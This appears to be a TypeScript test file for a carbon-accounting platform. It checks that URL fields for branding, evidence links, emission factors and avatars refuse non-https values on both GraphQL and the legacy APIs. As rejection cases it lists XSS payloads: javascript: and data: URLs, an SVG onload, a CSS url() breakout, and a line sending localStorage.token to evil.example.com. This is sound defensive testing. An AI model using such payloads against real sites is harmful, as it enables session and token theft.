// Addresses the platform stores and hands to browsers: the branding's external sign-in page and
// images, evidence links and factor sources accept https (http only for localhost), through
// GraphQL and the legacy calls alike, and the public theme never serves an address stored before
// the rule that breaks it.
import { codeOf, SEED_PASSWORD, startTestApp, type TestApp } from "./support/harness";
import { caller, type Caller } from "./support/accounting";
import { caseWithOneLine } from "./support/custom-line";

let t: TestApp;
let admin: Caller;
let demo: Caller;
beforeAll(async () => {
  t = await startTestApp();
  admin = caller(t, await t.login("admin"));
  demo = caller(t, await t.login("demo", SEED_PASSWORD));
});
afterAll(() => t.close());

const UPDATE_BRANDING = `mutation ($input: UpdateBrandingInput!) {
  updateBranding(input: $input) { id authUrl loginBg } }`;
const THEME = `{ theme(domain: "localhost") {
  authUrl platLogo loginBg loginLogo logo banner authProvider } }`;

const platformBranding = async () =>
  (
    await t.dataSource.query<Array<Record<string, string | null>>>(
      `SELECT auth_url, plat_logo, login_bg, login_logo, logo, banner FROM agent WHERE is_platform`,
    )
  )[0];

const SCRIPT_URLS = [
  "javascript:alert(document.cookie)",
  "JaVaScRiPt:fetch('https://evil.example.com/'+localStorage.token)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example.com/login",
  "http://evil.example.com/login",
];

describe("the external sign-in page of the branding", () => {
  it("refuses a javascript: address and stores nothing", async () => {
    const before = await platformBranding();

    const answer = await admin.try(UPDATE_BRANDING, {
      input: { authProvider: "eplat", authUrl: "javascript:alert(document.cookie)" },
    });

    expect(codeOf(answer)).toEqual(["BAD_USER_INPUT"]);
    expect(answer.errors![0].message).toBe(
      "authUrl must be an https:// address (http:// only for localhost)",
    );
    expect(answer.errors![0].extensions.field).toBe("authUrl");
    expect(await platformBranding()).toEqual(before);
  });

  it("refuses every non-https address, in the caller's language", async () => {
    for (const authUrl of SCRIPT_URLS) {
      const answer = await t.gql(
        UPDATE_BRANDING,
        { input: { authUrl } },
        { token: admin.token, locale: "zh-CN" },
      );
      expect([authUrl, codeOf(answer), answer.errors?.[0].message]).toEqual([
        authUrl,
        ["BAD_USER_INPUT"],
        "authUrl必须是 https:// 地址（http:// 仅限本机 localhost）",
      ]);
    }
    expect((await platformBranding()).auth_url).toBeNull();
  });

  it("refuses the same address through the legacy branding call", async () => {
    const answer = await admin.legacy("theme/add", {
      authProvider: "obei",
      authUrl: "javascript:alert(1)",
    });

    expect(answer.code).toBe(501);
    expect(answer.msg).toBe("authUrl must be an https:// address (http:// only for localhost)");
    expect((await platformBranding()).auth_url).toBeNull();
  });

  it("keeps https anywhere and http on localhost", async () => {
    for (const authUrl of ["https://sso.example.com/auth?next=%2F", "http://localhost:8080/auth"]) {
      const { updateBranding } = await admin.gql(UPDATE_BRANDING, { input: { authUrl } });
      expect(updateBranding.authUrl).toBe(authUrl);
    }
  });
});

describe("branding images", () => {
  it("take https addresses and paths of files on this server", async () => {
    const input = {
      platLogo: "https://cdn.example.com/brand/plat.svg",
      loginBg: "/uploads/login-bg.jpg",
      loginLogo: "uploads/login-logo.png",
      logo: "http://127.0.0.1:4000/logo.png",
      banner: "https://cdn.example.com/brand/banner.jpg",
    };

    await admin.gql(UPDATE_BRANDING, { input });
    const { theme } = await admin.gql(THEME);

    expect(theme).toMatchObject(input);
  });

  it("refuse script addresses, other hosts' paths and values that would break out of CSS url()", async () => {
    const before = await platformBranding();
    for (const [field, value] of [
      ["loginBg", "javascript:alert(1)"],
      ["banner", "//evil.example.com/banner.jpg"],
      ["logo", "http://evil.example.com/logo.png"],
      ["platLogo", "data:image/svg+xml,<svg onload=alert(1)>"],
      ["loginLogo", "/a.png);background-image:url(https://evil.example.com/track"],
    ]) {
      const answer = await admin.try(UPDATE_BRANDING, { input: { [field]: value } });
      expect([field, codeOf(answer), answer.errors?.[0].extensions.field]).toEqual([
        field,
        ["BAD_USER_INPUT"],
        field,
      ]);
    }
    expect(await platformBranding()).toEqual(before);
  });
});

describe("addresses stored before the rule", () => {
  it("are left out of the public theme, GraphQL and legacy", async () => {
    await t.dataSource.query(
      `UPDATE agent SET auth_provider = 'eplat', auth_url = 'javascript:alert(document.cookie)',
         login_bg = 'javascript:alert(1)', logo = 'https://cdn.example.com/ok.png' WHERE is_platform`,
    );

    const { theme } = await caller(t, "").gql(THEME);
    const legacy = await t.legacy("theme/getTheme", { domain: "localhost" });

    expect(theme).toMatchObject({
      authProvider: "eplat",
      authUrl: null,
      loginBg: null,
      logo: "https://cdn.example.com/ok.png",
    });
    expect(legacy.code).toBe(200);
    expect(legacy.body.theme).toMatchObject({ authUrl: null, loginBg: null });
  });
});

const lineOfDemo = () => caseWithOneLine(demo, "Link test");

describe("evidence links of activity lines", () => {
  const UPDATE_LINES = `mutation ($input: UpdateActivityLinesInput!) {
    updateActivityLines(input: $input) { id evidence { name url fileId } } }`;
  const evidenceOf = async (lineId: number) =>
    (
      await t.dataSource.query<Array<{ evidence: unknown[] }>>(
        "SELECT evidence FROM activity_line WHERE id = $1",
        [lineId],
      )
    )[0].evidence;

  it("refuses a javascript: link through GraphQL and stores nothing", async () => {
    const { caseId, lineId } = await lineOfDemo();

    const answer = await demo.try(UPDATE_LINES, {
      input: {
        caseId,
        lines: [{ id: lineId, evidence: [{ name: "Invoice", url: "javascript:alert(1)" }] }],
      },
    });

    expect(codeOf(answer)).toEqual(["BAD_USER_INPUT"]);
    expect(answer.errors![0].extensions.field).toBe("lines.0.evidence.0.url");
    expect(await evidenceOf(lineId)).toEqual([]);
  });

  it("refuses the same link through the legacy call, JSON or bracketed form fields", async () => {
    const { caseId, lineId } = await lineOfDemo();

    const json = await demo.legacy("co2case/co2CaseProcessDatasUpdate", {
      caseId,
      lines: JSON.stringify([
        { id: lineId, evidence: [{ name: "Invoice", url: "javascript:alert(1)" }] },
      ]),
    });
    const form = await demo.legacy("co2case/co2CaseProcessDatasUpdate", {
      caseId,
      "lines[0][id]": lineId,
      "lines[0][evidence][0][name]": "Invoice",
      "lines[0][evidence][0][url]": "data:text/html,<script>alert(1)</script>",
    });

    expect([json.code, json.msg]).toEqual([
      501,
      "url must be an https:// address (http:// only for localhost)",
    ]);
    expect(form.code).toBe(501);
    expect(await evidenceOf(lineId)).toEqual([]);
  });

  it("keeps https links", async () => {
    const { caseId, lineId } = await lineOfDemo();
    const link = { name: "Fuel receipt", url: "https://supplier.example.com/receipt.pdf" };

    const { updateActivityLines } = await demo.gql(UPDATE_LINES, {
      input: { caseId, lines: [{ id: lineId, evidence: [link] }] },
    });

    expect(updateActivityLines[0].evidence).toEqual([{ ...link, fileId: null }]);
  });
});

describe("factor sources", () => {
  it("refuses a factor whose source address is not https", async () => {
    const answer = await admin.try(
      `mutation ($input: FactorInput!) { createEmissionFactor(input: $input) { id } }`,
      {
        input: {
          code: "URL-TEST-1",
          name: "Test factor",
          category: "electricity",
          unitId: 30,
          gases: [{ gas: "CO2", value: 1 }],
          region: "CN",
          year: 2024,
          source: "Test",
          sourceUrl: "javascript:alert(1)",
        },
      },
    );

    expect(codeOf(answer)).toEqual(["BAD_USER_INPUT"]);
    expect(answer.errors![0].extensions.field).toBe("sourceUrl");
    const rows = await t.dataSource.query(
      "SELECT id FROM emission_factor WHERE code = 'URL-TEST-1'",
    );
    expect(rows).toEqual([]);
  });
});

describe("a user's avatar", () => {
  const CREATE_USER = `mutation ($input: CreateUserInput!) { createUser(input: $input) { id avatar } }`;

  it("refuses a script address on both APIs and keeps a file path or an https image", async () => {
    const script = await admin.try(CREATE_USER, {
      input: { username: "avatar.script", realname: "Script", avatar: SCRIPT_URLS[0] },
    });
    const legacy = await admin.legacy("user/item", {
      username: "avatar.legacy",
      realname: "Legacy",
      avatar: "javascript:alert(1)",
    });
    const path = await admin.gql(CREATE_USER, {
      input: { username: "avatar.path", realname: "Path", avatar: "/uploads/avatar.png" },
    });
    const https = await admin.gql(CREATE_USER, {
      input: {
        username: "avatar.https",
        realname: "Https",
        avatar: "https://cdn.example.com/a.png",
      },
    });
    const refused = await t.dataSource.query(
      "SELECT id FROM user_account WHERE username IN ('avatar.script', 'avatar.legacy')",
    );

    expect(codeOf(script)).toEqual(["BAD_USER_INPUT"]);
    expect(script.errors![0].extensions.field).toBe("avatar");
    expect(legacy.code).toBe(501);
    expect(refused).toEqual([]);
    expect(path.createUser.avatar).toBe("/uploads/avatar.png");
    expect(https.createUser.avatar).toBe("https://cdn.example.com/a.png");
  });
});
